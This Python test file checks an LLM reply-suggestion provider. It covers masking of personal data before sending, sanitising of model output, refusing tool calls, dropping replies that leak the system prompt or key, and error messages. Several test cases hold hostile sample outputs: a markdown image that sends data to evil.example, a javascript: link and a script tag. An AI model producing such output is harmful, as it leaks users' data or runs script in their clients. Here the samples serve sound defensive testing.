"""A model behind a real HTTP server: what leaves, what comes back, and how each failure is told."""

import httpx
import pytest

from assist.endpoint import Model, a_model, completion
from rapport.assist.asking import Ask, Line
from rapport.assist.framing import SYSTEM
from rapport.assist.provider import Endpoint, Provider
from rapport.errors import AssistFailed
from rapport.model.bilingual import said_in
from rapport.understanding.personal_data import find

pytestmark = pytest.mark.anyio
WROTE = "Soy Ana Ruiz, mi correo es ana@example.com y mi tarjeta 4111 1111 1111 1111, pedido 77123"


@pytest.fixture
def model():
    with a_model() as model:
        yield model


def personal(text: str) -> list[tuple[str, int, int]]:
    return [(one.kind, one.start, one.end) for one in find(text)]


async def suggested(model: Model, *, kind="reply", wrote=WROTE, hosts=(), budget=0, spent=0, seconds=5.0):
    """What a provider makes of one message."""
    used = [spent]

    async def spend(tenant: int, tokens: int) -> int:
        used[0] += tokens
        return used[0]

    endpoint = Endpoint(model.url, "small", "sk-secret-of-the-house", seconds, budget)
    async with httpx.AsyncClient(trust_env=False) as http:
        ask = Ask(kind, (Line(wrote),), "es", ("Gracias por escribir.",), ("Ana Ruiz",), frozenset(hosts))
        return await Provider(endpoint, http, personal, spend).suggest(1, ask), used[0]


async def failure(model: Model, language: str = "en", **how) -> str:
    with pytest.raises(AssistFailed) as failed:
        await suggested(model, **how)
    return said_in(str(failed.value), language)


async def test_no_personal_data_leaves_and_it_is_put_back_in_what_comes_home(model):
    def echo(asked):
        data = asked["messages"][1]["content"]
        return 200, completion("Le escribo a " + data[data.index("[[email-") :].split("]]")[0] + "]]")

    model.answer = echo
    made, _ = await suggested(model)

    sent = str(model.asked)
    assert [part for part in ("ana@example.com", "4111", "Ana", "Ruiz", "77123") if part in sent] == []
    assert made.text == "Le escribo a ana@example.com"
    assert (made.model, made.prompt[:8], made.warnings) == ("small", "reply-1-", ())


async def test_it_is_asked_as_the_api_says_with_the_key_and_without_tools(model):
    await suggested(model)

    (asked,) = model.asked
    assert asked["path"] == "/v1/chat/completions"
    assert sorted(asked) == ["max_tokens", "messages", "model", "n", "path", "temperature"]
    assert [one["role"] for one in asked["messages"]] == ["system", "user"]
    assert model.keys == ["Bearer sk-secret-of-the-house"]


@pytest.mark.parametrize(
    ("text", "shown", "warning"),
    [
        ("Entre en https://evil.example/x ya", "Entre en […] ya", "link"),
        ("Vea [aquí](javascript:alert(1))", "Vea [aquí]([…]", "link"),
        ("![x](https://evil.example/?q=[[email-1]])", "x", "link"),
        ("Visite evil.top/promo hoy", "Visite […] hoy", "link"),
        ("Vea https://hotel.example/wifi", "Vea https://hotel.example/wifi", ""),
        ("Hola\u202e\u200b\x07 Ana", "Hola Ana", "signs"),
        ("<script>send()</script>Hola", "send()Hola", "markup"),
        ("Llame al +52 55 5123 4567", "Llame al +52 55 5123 4567", "personal"),
        ("Hola [[card-99]]", "Hola ", "placeholder"),
        ("a" * 9_000, "a" * 2_000 + "…", "length"),
    ],
)
async def test_what_a_model_writes_is_made_plain_text(model, text, shown, warning):
    model.answer = lambda asked: (200, completion(text))

    made, _ = await suggested(model, hosts=("hotel.example",))

    assert (made.text, "".join(made.warnings)) == (shown, warning)


async def test_a_call_of_a_tool_is_not_honoured_but_told(model):
    call = [{"id": "1", "type": "function", "function": {"name": "send", "arguments": "{}"}}]
    model.answer = lambda asked: (200, completion("Hola", tool_calls=call))

    made, _ = await suggested(model)

    assert (made.text, made.warnings) == ("Hola", ("tools",))


@pytest.mark.parametrize(
    "text", [SYSTEM, SYSTEM.upper()[:200], " ".join(SYSTEM[:150]), "clave sk-secret-of-the-house", "", "\u200b"]
)
async def test_what_tells_our_instructions_on_or_says_nothing_is_thrown_away(model, text):
    model.answer = lambda asked: (200, completion(text))

    assert "yourself" in await failure(model)


@pytest.mark.parametrize(
    ("status", "body", "cure"),
    [
        (401, b"{}", "assist_key"),
        (404, b"{}", "assist_model"),
        (429, b"{}", "Try again"),
        (500, b"<html>", "Try again"),
        (302, b"", "assist_url"),
        (200, b"<html>garbage", "/chat/completions"),
        (200, b'{"choices": []}', "/chat/completions"),
        (200, b"[" * 100_000, "/chat/completions"),
        (200, b" " * 400_000, "/chat/completions"),
        (200, completion(["a", "list"]), "/chat/completions"),
    ],
)
async def test_a_failure_says_its_cure(model, status, body, cure):
    model.answer = lambda asked: (status, body)

    assert cure in await failure(model)


async def test_an_answer_that_takes_too_long_is_not_waited_for(model):
    model.slow = True

    assert "0,2 s" in (await failure(model, "es", seconds=0.2)).replace("0.2", "0,2")


async def test_where_nobody_listens_the_way_out_is_named():
    nobody = Model()
    nobody.url = "http://127.0.0.1:9/v1"

    assert "rapport egress" in await failure(nobody)


async def test_a_budget_that_is_used_up_asks_nothing_and_is_given_back_what_was_not_used(model):
    assert "1000 tokens" in await failure(model, budget=1000, spent=990)
    assert model.asked == []
    assert (await suggested(model, budget=100_000))[1] == 300
